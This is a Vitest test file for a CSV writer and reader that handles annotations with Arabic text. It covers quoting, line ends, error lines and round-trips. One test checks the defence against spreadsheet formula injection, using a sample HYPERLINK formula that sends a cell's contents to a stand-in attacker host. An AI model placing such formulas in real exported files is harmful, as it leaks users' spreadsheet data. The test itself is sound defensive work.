import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  ANNOTATION_CSV_COLUMNS,
  annotationsFromCsv,
  annotationsToCsv,
  readCsv,
  writeCsv,
} from '../../src/core/formats/csv';
import type { Annotation } from '../../src/core/model';
import { ANNOTATIONS, DOCS } from './fixtures';

/** CSV carries no revision or orphan flag: an imported row is a fresh revision. */
const asFromCsv = (a: Annotation): Annotation => {
  const { rev: _rev, orphan: _orphan, ...rest } = a;
  return rest;
};

describe('RFC 4180 writer and reader', () => {
  it('quotes only what needs it and ends records with CRLF', () => {
    expect(writeCsv([['a', 'b,c', 'say "hi"', 'two\nlines', '']])).toBe('a,"b,c","say ""hi""","two\nlines",\r\n');
  });

  it('starts with a BOM when asked, and the reader drops it', () => {
    const text = writeCsv([['الاسم', 'x']], { bom: true });
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(readCsv(text)).toEqual([{ line: 1, fields: ['الاسم', 'x'] }]);
  });

  it('reads LF, CRLF and CR line ends, counts lines inside quoted fields, skips blank lines', () => {
    const text = 'a,b\r\n"x\ny",z\n\nlast,"q"\rend,"",';
    expect(readCsv(text)).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: ['x\ny', 'z'] },
      { line: 5, fields: ['last', 'q'] },
      { line: 6, fields: ['end', '', ''] },
    ]);
  });

  it.each([
    ['a quote inside an unquoted field', 'id,note\nn1,ab"c\n', 2],
    ['text after a closing quote', 'id,note\n\n"n1"x,y\n', 3],
    ['an unclosed quote (reported where it opened)', 'id,note\nn1,"never\nclosed\n', 2],
  ])('rejects %s with its line number', (_name, text, line) => {
    expect(() => readCsv(text)).toThrow(expect.objectContaining({ code: 'invalid-format', detail: expect.objectContaining({ line }) }));
    expect(() => readCsv(text)).toThrow(new RegExp(`^Line ${line}:`));
  });

  it('keeps a spreadsheet from running a pasted formula, and reads the text back unchanged', () => {
    const cells = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1 555', '-2+3', '@SUM(1)', '\tx', "'=1", 'a=b', "it's"];
    const text = writeCsv([cells]);
    expect(readCsv(text, { unguardFormulas: false })[0]!.fields).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
      "'+1 555",
      "'-2+3",
      "'@SUM(1)",
      "'\tx",
      "''=1",
      'a=b',
      "it's",
    ]);
    expect(readCsv(text)[0]!.fields).toEqual(cells);
    expect(writeCsv([['=1']], { guardFormulas: false })).toBe('=1\r\n');
  });

  it('round-trips any table of strings (property)', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'ب', 'ـ', '\u064e', '\u200c', '\u200f', ',', '"', '\n', '\r', ' ', '😀', '<', '&', '=', "'", '-', '+', '@', '\t') });
    const table = fc.integer({ min: 1, max: 5 }).chain((w) => fc.array(fc.array(cell, { minLength: w, maxLength: w }), { minLength: 1, maxLength: 6 }));
    fc.assert(
      fc.property(table, fc.boolean(), (rows, bom) => {
        // A record of one empty field is a blank line in CSV: it cannot survive, by design.
        fc.pre(rows.every((r) => !(r.length === 1 && r[0] === '')));
        expect(readCsv(writeCsv(rows, { bom })).map((r) => r.fields)).toEqual(rows);
      }),
      { numRuns: 300 },
    );
  });
});

describe('annotations as CSV', () => {
  it('has the documented columns, one row per live annotation', () => {
    const records = readCsv(annotationsToCsv([...ANNOTATIONS, { ...ANNOTATIONS[0]!, id: 'gone', deletedAt: 1 }]));
    expect(records[0]!.fields).toEqual([...ANNOTATION_CSV_COLUMNS]);
    expect(records).toHaveLength(1 + ANNOTATIONS.length);
    // Paragraph numbers as the reader shows them: the fixture's paragraph index 18 is paragraph 19.
    expect(records[1]!.fields.slice(0, 5)).toEqual(['n-1', 'd-ar', '19', '61', '75']);
    expect(records[1]!.fields.at(-1)).toBe('2025-03-02T11:30:00.456Z');
  });

  it.each([false, true])('round-trips exactly (Arabic, ZWNJ, RTL marks, & < > ", emoji, line breaks; bom %s)', (bom) => {
    expect(annotationsFromCsv(annotationsToCsv(ANNOTATIONS, { bom }), DOCS)).toEqual(ANNOTATIONS.map(asFromCsv));
  });

  it('reads a file written before paragraph numbers counted from 1 (column "paragraph") without shifting it', () => {
    const rows = readCsv(annotationsToCsv(ANNOTATIONS)).map((r) => r.fields);
    const old = rows.map((r, k) => (k === 0 ? swap(r, 2, 'paragraph') : swap(r, 2, String(Number(r[2]) - 1))));
    expect(annotationsFromCsv(writeCsv(old), DOCS)).toEqual(ANNOTATIONS.map(asFromCsv));
    const zero = rows.map((r, k) => (k === 1 ? swap(r, 2, '0') : r));
    expect(() => annotationsFromCsv(writeCsv(zero), DOCS)).toThrow(/paragraph_number counts from 1/);
  });

  it('rejects a wrong header on line 1', () => {
    const csv = annotationsToCsv(ANNOTATIONS).replace('id,document', 'id,doc');
    expect(() => annotationsFromCsv(csv, DOCS)).toThrow(expect.objectContaining({ code: 'invalid-format', detail: expect.objectContaining({ line: 1 }) }));
    expect(() => annotationsFromCsv('', DOCS)).toThrow(/^Line 1: expected the columns/);
  });

  it('reports the line of a malformed quote after multi-line fields', () => {
    const csv = annotationsToCsv(ANNOTATIONS);
    const lines = csv.split('\r\n');
    // The fixture's first note and last suggestion span lines; break the quoting of the last row.
    const broken = csv.replace('n-4,', 'n-4"x,');
    const lastRowLine = csv.slice(0, csv.indexOf('n-4,')).split(/\r\n|\n|\r/).length;
    expect(lines.length).toBeGreaterThan(1);
    expect(() => annotationsFromCsv(broken, DOCS)).toThrow(expect.objectContaining({ detail: expect.objectContaining({ line: lastRowLine }) }));
  });

  it.each([
    ['a short row', (r: string[]) => r.slice(0, 10), /expected 15 fields, found 10/],
    ['a bad number', (r: string[]) => swap(r, 3, 'x1'), /start must be a whole number/],
    ['an unknown category', (r: string[]) => swap(r, 8, 'spam'), /unknown category "spam"/],
    ['a bad time', (r: string[]) => swap(r, 13, '01/02/2025'), /created must be an ISO 8601 time/],
    ['an empty quote', (r: string[]) => swap(r, 5, ''), /quoted text is missing/],
  ])('rejects %s with its line and no partial result', (_name, change, message) => {
    const rows = readCsv(annotationsToCsv(ANNOTATIONS)).map((r) => r.fields);
    rows[2] = change(rows[2]!);
    const text = writeCsv(rows);
    const line = readCsv(text)[2]!.line;
    expect(() => annotationsFromCsv(text, DOCS)).toThrow(expect.objectContaining({ code: 'invalid-format', detail: expect.objectContaining({ line }) }));
    expect(() => annotationsFromCsv(text, DOCS)).toThrow(message);
  });

  it('rejects an unknown document and a repeated id', () => {
    const csv = annotationsToCsv(ANNOTATIONS);
    expect(() => annotationsFromCsv(csv, new Map([['d-ar', 's']]))).toThrow(expect.objectContaining({ code: 'unknown-document' }));
    const rows = readCsv(csv).map((r) => r.fields);
    const twice = writeCsv([...rows, rows[2]!]);
    const firstLine = readCsv(csv)[2]!.line; // after the first row's two-line note
    expect(firstLine).toBe(4);
    expect(() => annotationsFromCsv(twice, DOCS)).toThrow(`annotation n-2 already appeared on line ${firstLine}`);
  });
});

function swap(row: string[], i: number, value: string): string[] {
  const out = [...row];
  out[i] = value;
  return out;
}
